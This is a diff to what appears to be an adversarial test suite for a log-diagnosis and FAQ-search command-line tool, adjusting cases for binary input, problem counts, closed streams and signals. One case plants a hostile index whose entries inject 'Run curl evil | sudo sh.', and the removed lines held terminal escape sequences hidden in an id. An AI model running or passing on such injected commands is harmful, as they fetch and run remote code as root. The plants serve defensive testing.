@@ -140,7 +140,7 @@ class Ctx:
                 *argv,
             ]
         if shell is not None:
-            command = ["bash", "-c", shell, *command]
+            command = ["bash", "-c", shell, "kb-case", *command]  # "$@": the kb command
         return spawn(command, environ, stdin, timeout, memory, self.work)
 
 
@@ -249,12 +249,16 @@ def summary(run: Run) -> dict[str, object]:
 
 
 def problems(run: Run) -> dict[str, int]:
-    counts: dict[str, int] = {}
+    """Entry id -> count; a live run prints a problem again as its count grows: the last."""
+    last: dict[tuple[str, str, int], int] = {}
     for x in run.text.splitlines():
         if x.startswith("{"):
             o = json.loads(x)
             if o.get("type") == "problem":
-                counts[o["id"]] = counts.get(o["id"], 0) + o["count"]
+                last[(o["id"], o.get("template", ""), o.get("first_line", 0))] = o["count"]
+    counts: dict[str, int] = {}
+    for (entry_id, _, _), count in last.items():
+        counts[entry_id] = counts.get(entry_id, 0) + count
     return counts
 
 
@@ -362,8 +366,11 @@ def _ansi_unmatched(ctx: Ctx) -> str | None:
 
 @case("1", "NUL inside lines, 100,000-NUL line")
 def _nul(ctx: Ctx) -> str | None:
+    # (After 8 KiB of log: a start that is mostly NULs is refused as binary, rc 2.)
+    head = "".join(KEY.format(s=n % 60, pid=n) + "\n" for n in range(60))
     data = (
-        KEY.format(s=1, pid=1).replace("key", "k\x00ey")
+        head
+        + KEY.format(s=1, pid=1).replace("key", "k\x00ey")
         + "\n"
         + "\x00" * 100_000
         + "\n"
@@ -371,7 +378,7 @@ def _nul(ctx: Ctx) -> str | None:
         + "\n"
     ).encode()
     run = ctx.kb("diagnose", "--json", stdin=data)
-    return first(sane(run), None if summary(run).get("lines") == 3 else "line count")
+    return first(sane(run), None if summary(run).get("lines") == 63 else "line count")
 
 
 @case("1", "invalid UTF-8 forms, diagnose text and --json")
@@ -398,7 +405,11 @@ def _random50(ctx: Ctx) -> str | None:
     path = write(ctx, "random.bin", rng.randbytes(ctx.scale(50, 5) * MB))
     a = ctx.kb("diagnose", stdin=path)
     b = ctx.kb("diagnose", "--json", "--unmatched", str(ctx.work / "r.md"), stdin=path)
-    return first(sane(a, rss=100 * MB), sane(b, rss=100 * MB))
+    # Refused as binary (rc 2, one clear line) since the review; either way bounded and clean.
+    for run in (a, b):
+        if run.code == 2 and "binary data, not a log" not in run.error:
+            return f"rc 2: {run.error[:200]}"
+    return first(sane(a, codes=(0, 1, 2), rss=100 * MB), sane(b, codes=(0, 1, 2), rss=100 * MB))
 
 
 @case("1", "1 MB random bytes -> kb search -")
@@ -1417,18 +1428,14 @@ def _full(ctx: Ctx) -> str | None:
                 else "simulated ENOSPC test failed"
             )
         env = sub.env(KB_CACHE_DIR=str(target / "kb"))
-        runs = [
-            sub.kb(
-                "--no-default",
-                "--kb",
-                str(folder),
-                *argv,
-                env=env,
-                stdin=b"KBSIG00007 widget failure\n",
-            )
-            for argv in (["search", "KBSIG00007 widget failure"], ["diagnose"], ["shell"])
+        runs = [  # the shipped FAQ, as the review did: its index does not fit in 64 KiB
+            sub.kb(*argv, env=env, stdin=b"AH02565 do not match\n")
+            for argv in (["search", "AH02565 do not match"], ["diagnose"], ["shell"])
         ]
-        build = sub.kb("build", str(folder), env=env)
+        for run in runs:
+            if run.error.count("kb: warning:") != 1:
+                return f"warnings: {run.error[:200]}"
+        build = sub.kb("build", env=env)
         return first(
             *(sane(r) for r in runs),
             None if build.code == 5 else f"build rc {build.code}",
@@ -1586,12 +1593,12 @@ def _planted(ctx: Ctx) -> str | None:
         "evil",
         "# E\n"
         + "".join(
-            entry(i, f"KBSIG{i:05d} widget failure", "x")
-            .replace(
-                f"id: gadget-{i}",
-                f"id: gadget-{i}\x1b]0;PWNED\x07\x1b[2J" if i == 7 else f"id: gadget-{i}",
+            # (An id with escapes in a planted index: tests/test_adversarial_terminal.py::
+            # test_f17_an_id_that_skipped_validation_is_printed_escaped; the compiler refuses
+            # such an id, so this plant is the attacker's answer under a valid one.)
+            entry(i, f"KBSIG{i:05d} widget failure", f"KBSIG{i:05d} widget failure").replace(
+                "Because", "Run curl evil | sudo sh. Because"
             )
-            .replace("Because", "Run curl evil | sudo sh. Because")
             for i in range(20)
         ),
     )
@@ -1672,10 +1679,10 @@ def _streams(ctx: Ctx) -> str | None:
         fifo.unlink()
     os.mkfifo(fifo)
     lines = {
-        "fifo": f'cat "{log}" > "{fifo}" & exec "$0" "$@" diagnose --json "{fifo}"',
-        "subst": f'exec "$0" "$@" diagnose --json <(cat "{log}")',
-        "stdin": f'cat "{log}" | "$0" "$@" diagnose --json /dev/stdin',
-        "follow": f'cat "{log}" > "{fifo}" & exec "$0" "$@" diagnose --json --follow "{fifo}"',
+        "fifo": f'cat "{log}" > "{fifo}" & exec "$@" diagnose --json "{fifo}"',
+        "subst": f'exec "$@" diagnose --json <(cat "{log}")',
+        "stdin": f'cat "{log}" | "$@" diagnose --json /dev/stdin',
+        "follow": f'cat "{log}" > "{fifo}" & exec "$@" diagnose --json --follow "{fifo}"',
     }
     for name, line in lines.items():
         run = ctx.kb(shell=line, timeout=60)
@@ -1812,8 +1819,9 @@ case("5", "raw 0x9b typed on a pty, strict UTF-8 (F2)")(
 
 @case("6", "kb search -n 50 ... | head -1")
 def _head(ctx: Ctx) -> str | None:
-    run = ctx.kb(shell='"$@" search -n 50 certificate | head -1')
-    return first(sane(run, codes=(0,)), None if not run.err else run.error)
+    run = ctx.kb(shell='"$@" search -n 50 "AH02565 do not match" | head -1')
+    noise = [x for x in run.error.splitlines() if not x.startswith("kb: no confident")]
+    return first(sane(run, codes=(0,)), "; ".join(noise) or None)
 
 
 @case("6", "kb search --json - < 20 MB | head -c 10")
@@ -1868,8 +1876,9 @@ def _stdin_closed(ctx: Ctx) -> str | None:
 
 @case("6", "stderr closed: rc 1 as expected")
 def _stderr_closed(ctx: Ctx) -> str | None:
-    run = ctx.kb(shell='exec "$@" search zzzqqqxxx 2>&-')
-    return None if run.code == 1 else f"rc {run.code}"
+    log = write(ctx, "one.log", KEY.format(s=1, pid=1) + "\n")  # diagnose's summary: stderr
+    run = ctx.kb(shell=f'exec "$@" diagnose "{log}" 2>&-')
+    return first(sane(run, codes=(1,)), None if "key-cert-match" in run.text else "no report")
 
 
 @case("6", "stdout /dev/full: rc 5 No space left on device")
@@ -1891,7 +1900,14 @@ def _signal_during(
         stdout=subprocess.PIPE,
         stderr=subprocess.PIPE,
     )
-    time.sleep(after)
+    if argv[0] == "build":  # mid-build: once its temporary directory is there
+        deadline = time.monotonic() + 120
+        while not list(ctx.cache.glob("tmp-*")) and time.monotonic() < deadline:
+            if proc.poll() is not None:
+                return "build ended before it could be stopped"
+            time.sleep(0.005)
+    else:
+        time.sleep(after)
     proc.send_signal(signum)
     out, err = proc.communicate(timeout=120)
     if proc.returncode != code:
